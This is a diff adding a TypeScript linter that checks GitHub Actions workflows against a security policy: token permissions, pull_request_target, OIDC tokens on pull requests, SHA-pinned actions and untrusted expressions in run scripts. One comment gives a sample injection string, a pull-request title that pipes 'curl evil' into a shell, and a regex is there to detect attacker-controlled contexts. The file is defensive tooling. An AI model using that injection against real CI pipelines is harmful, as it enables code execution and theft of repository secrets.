@@ -1,0 +1,219 @@
+/**
+ * Our own policy for GitHub Actions workflows: a small, offline stand-in for zizmor and the
+ * OpenSSF Scorecard checks (Token-Permissions, Dangerous-Workflow, Pinned-Dependencies).
+ * actionlint and GitHub's workflow parser check that a workflow is valid; this checks that it
+ * is safe for a repository that builds untrusted pull requests and signs its releases.
+ *
+ * Rules:
+ * - `top-level-permissions`: the workflow says what its token may do, and grants no write.
+ * - `no-pull-request-target`: never the pull_request_target trigger.
+ * - `no-id-token-on-pr`: no `id-token: write` in a workflow that pull requests trigger.
+ * - `pinned-actions`: every remote action or reusable workflow pinned to a full commit SHA.
+ * - `no-event-in-run`: no attacker-controlled `${{ … }}` expression inside a `run:` script.
+ * - `job-write-permissions-scoped`: a job that writes names the scopes it writes (no write-all).
+ * - `yaml-syntax`: the file must parse (nothing else is checked when it does not).
+ */
+import { isMap, isPair, isScalar, isSeq, LineCounter, parseDocument, type Node, type Pair, type YAMLMap } from 'yaml';
+
+export interface PolicyFinding {
+  file: string;
+  line: number;
+  col: number;
+  rule: string;
+  message: string;
+}
+
+export type PolicyRule =
+  | 'top-level-permissions'
+  | 'no-pull-request-target'
+  | 'no-id-token-on-pr'
+  | 'pinned-actions'
+  | 'no-event-in-run'
+  | 'job-write-permissions-scoped'
+  | 'yaml-syntax';
+
+/** `owner/repo[/path]@<40 hex>`: a commit cannot be moved, a tag or branch can. */
+const PINNED = /^[A-Za-z0-9_.-]+\/[A-Za-z0-9_.-]+(?:\/[^@\s]+)?@[0-9a-fA-F]{40}$/;
+/** The `# vX.Y.Z` comment that tells a reader (and Dependabot) which release a SHA is. */
+const VERSION_COMMENT = /@[0-9a-fA-F]{40}["']?\s+#\s*v\d+(?:\.\d+)*\b/;
+/** One `${{ … }}` expression. */
+const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;
+/**
+ * Contexts an outsider controls (titles, bodies, branch names, commit messages, labels…), or
+ * that point at them. Inside `run:` they are pasted into the script before the shell parses it.
+ */
+const UNTRUSTED = /\bgithub\s*(?:\.\s*(?:event_path|event|head_ref)\b|\[\s*['"](?:event_path|event|head_ref)['"]\s*\])/;
+
+export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[] {
+  const lineCounter = new LineCounter();
+  const doc = parseDocument(text, { lineCounter, prettyErrors: false, uniqueKeys: false });
+  const findings: PolicyFinding[] = [];
+  const at = (offset: number, rule: PolicyRule, message: string): void => {
+    const { line, col } = lineCounter.linePos(offset);
+    findings.push({ file, line, col, rule, message });
+  };
+  const start = (node: unknown): number => (node && typeof node === 'object' && 'range' in node && Array.isArray(node.range) ? (node.range[0] as number) : 0);
+
+  if (doc.errors.length > 0) {
+    for (const e of doc.errors) at(e.pos[0], 'yaml-syntax', e.message.split('\n')[0] ?? e.message);
+    return findings;
+  }
+  const root = doc.contents;
+  if (!isMap(root)) {
+    at(start(root), 'yaml-syntax', 'a workflow is a mapping (name, on, permissions, jobs)');
+    return findings;
+  }
+
+  // --- triggers -----------------------------------------------------------------------------
+  const on = pairOf(root, 'on');
+  const triggers = new Map<string, Node | null>();
+  if (on) {
+    const v = on.value;
+    if (isScalar(v)) {
+      triggers.set(String(v.value), v);
+    } else if (isSeq(v)) {
+      for (const item of v.items) if (isScalar(item)) triggers.set(String(item.value), item);
+    } else if (isMap(v)) {
+      for (const p of v.items) if (isScalar(p.key)) triggers.set(String(p.key.value), p.key);
+    }
+  }
+  // pull_request_target runs with the base repository's secrets and a write token, so checking
+  // out or running anything from the pull request is a "pwn request". Build PRs with
+  // pull_request, and do privileged follow-ups from a workflow_run workflow.
+  const prt = triggers.get('pull_request_target');
+  if (prt !== undefined) {
+    at(start(prt), 'no-pull-request-target', 'pull_request_target runs with a write token and secrets next to pull-request code: use pull_request, and a workflow_run workflow for privileged follow-ups');
+  }
+  const onPullRequest = triggers.has('pull_request') || triggers.has('pull_request_target');
+
+  // --- workflow-level permissions ---------------------------------------------------------------
+  // Without a permissions key the token gets the repository's default, which may be write-all.
+  // Every job inherits the top level, so writes are granted per job, where they are needed
+  // (Scorecard Token-Permissions).
+  const top = pairOf(root, 'permissions');
+  if (!top) {
+    at(start(root), 'top-level-permissions', 'no top-level permissions: add `permissions: contents: read` (or `{}`) and grant writes per job');
+  } else {
+    for (const w of writeGrants(top)) {
+      at(w.offset, 'top-level-permissions', `the top-level permissions grant ${w.what}: keep the top level read-only and grant writes in the job that needs them`);
+    }
+  }
+
+  // --- jobs ------------------------------------------------------------------------------------
+  const jobs = pairOf(root, 'jobs')?.value;
+  const jobPairs: Pair[] = isMap(jobs) ? (jobs.items as Pair[]) : [];
+  const permissionsBlocks: Pair[] = top ? [top] : [];
+  for (const jobPair of jobPairs) {
+    const job = jobPair.value;
+    if (!isMap(job)) continue;
+    const jobId = isScalar(jobPair.key) ? String(jobPair.key.value) : '?';
+    const perms = pairOf(job, 'permissions');
+    if (perms) {
+      permissionsBlocks.push(perms);
+      // write-all hands the job every scope, id-token and contents included, when it almost
+      // always needs one or two: list them, so a review sees what the job can do.
+      if (isScalar(perms.value) && String(perms.value.value) === 'write-all') {
+        at(start(perms.value), 'job-write-permissions-scoped', `job ${jobId} grants write-all: list only the scopes it writes (e.g. pull-requests: write)`);
+      }
+    }
+
+    // A reusable workflow called by the job.
+    const jobUses = pairOf(job, 'uses');
+    if (jobUses && isScalar(jobUses.value)) checkUses(jobUses.value);
+
+    const steps = pairOf(job, 'steps')?.value;
+    if (!isSeq(steps)) continue;
+    for (const step of steps.items) {
+      if (!isMap(step)) continue;
+      const uses = pairOf(step, 'uses');
+      if (uses && isScalar(uses.value)) checkUses(uses.value);
+      const run = pairOf(step, 'run');
+      if (run && isScalar(run.value)) checkRun(run.value);
+    }
+  }
+
+  // A workflow that pull requests trigger must never be able to mint an OIDC token: that token
+  // is the signing identity of our releases (keyless Sigstore), so it belongs only in the
+  // signing job of the main/tag workflows.
+  if (onPullRequest) {
+    for (const block of permissionsBlocks) {
+      for (const w of writeGrants(block)) {
+        if (w.scope === 'id-token' || w.scope === '*') {
+          at(w.offset, 'no-id-token-on-pr', `a workflow triggered by pull requests grants ${w.scope === '*' ? 'write-all, which includes id-token: write' : 'id-token: write'}: sign only in the main/tag workflows`);
+        }
+      }
+    }
+  }
+
+  return findings.sort((a, b) => a.line - b.line || a.col - b.col || a.rule.localeCompare(b.rule));
+
+  // A tag or branch of someone else's repository can be moved to new code at any time; a full
+  // commit SHA cannot. Local actions (./…) come from the checked-out commit itself, and docker://
+  // images are out of scope here.
+  function checkUses(node: Node): void {
+    if (!isScalar(node)) return;
+    const ref = String(node.value).trim();
+    if (ref.startsWith('./') || ref.startsWith('docker://')) return;
+    if (!PINNED.test(ref)) {
+      at(start(node), 'pinned-actions', `${ref} is not pinned to a full commit SHA: use owner/repo@<40-hex sha> # vX.Y.Z`);
+      return;
+    }
+    const line = lineOf(start(node));
+    if (!VERSION_COMMENT.test(line)) {
+      at(start(node), 'pinned-actions', `${ref} has no "# vX.Y.Z" comment saying which release the SHA is`);
+    }
+  }
+
+  // `${{ }}` is expanded into the script text before the shell sees it, so a PR title such as
+  // `"; curl evil | sh; #` becomes code. Pass such values through `env:` and quote "$VAR".
+  function checkRun(node: Node): void {
+    if (!isScalar(node) || !Array.isArray(node.range)) return;
+    const [from, , to] = node.range as [number, number, number];
+    const raw = text.slice(from, to);
+    let found = 0;
+    for (const m of raw.matchAll(EXPRESSION)) {
+      const expr = (m[1] ?? '').trim();
+      if (!UNTRUSTED.test(expr)) continue;
+      found++;
+      at(from + (m.index ?? 0), 'no-event-in-run', `\${{ ${expr} }} inside run: is untrusted input pasted into the script: pass it through env: and use "$VAR"`);
+    }
+    if (found === 0) {
+      // Escapes in a quoted scalar can hide an expression from the raw text.
+      for (const m of String(node.value).matchAll(EXPRESSION)) {
+        const expr = (m[1] ?? '').trim();
+        if (UNTRUSTED.test(expr)) at(from, 'no-event-in-run', `\${{ ${expr} }} inside run: is untrusted input pasted into the script: pass it through env: and use "$VAR"`);
+      }
+    }
+  }
+
+  function lineOf(offset: number): string {
+    const s = text.lastIndexOf('\n', offset - 1) + 1;
+    const e = text.indexOf('\n', offset);
+    return text.slice(s, e === -1 ? text.length : e);
+  }
+
+  /** The write grants of a `permissions:` pair: `write-all` (scope `*`), any `<scope>: write`, or an unknown value. */
+  function writeGrants(pair: Pair): { scope: string; what: string; offset: number }[] {
+    const v = pair.value;
+    if (v === null || v === undefined) return []; // `permissions:` with nothing is `{}`
+    if (isScalar(v)) {
+      const s = String(v.value ?? '');
+      if (s === 'read-all' || s === '' || v.value === null) return [];
+      if (s === 'write-all') return [{ scope: '*', what: 'write-all', offset: start(v) }];
+      return [{ scope: '?', what: `"${s}" (only read-all, {} or a map of read/none are read-only)`, offset: start(v) }];
+    }
+    if (!isMap(v)) return [{ scope: '?', what: 'something that is not a map', offset: start(v) }];
+    const out: { scope: string; what: string; offset: number }[] = [];
+    for (const p of v.items as Pair[]) {
+      const scope = isScalar(p.key) ? String(p.key.value) : '?';
+      const level = isScalar(p.value) ? String(p.value.value) : '';
+      if (level === 'read' || level === 'none') continue;
+      out.push({ scope, what: `${scope}: ${level || '?'}`, offset: start(p.key) });
+    }
+    return out;
+  }
+}
+
+function pairOf(map: YAMLMap, key: string): Pair | undefined {
+  return (map.items as unknown[]).find((p): p is Pair => isPair(p) && isScalar(p.key) && String(p.key.value) === key);
+}
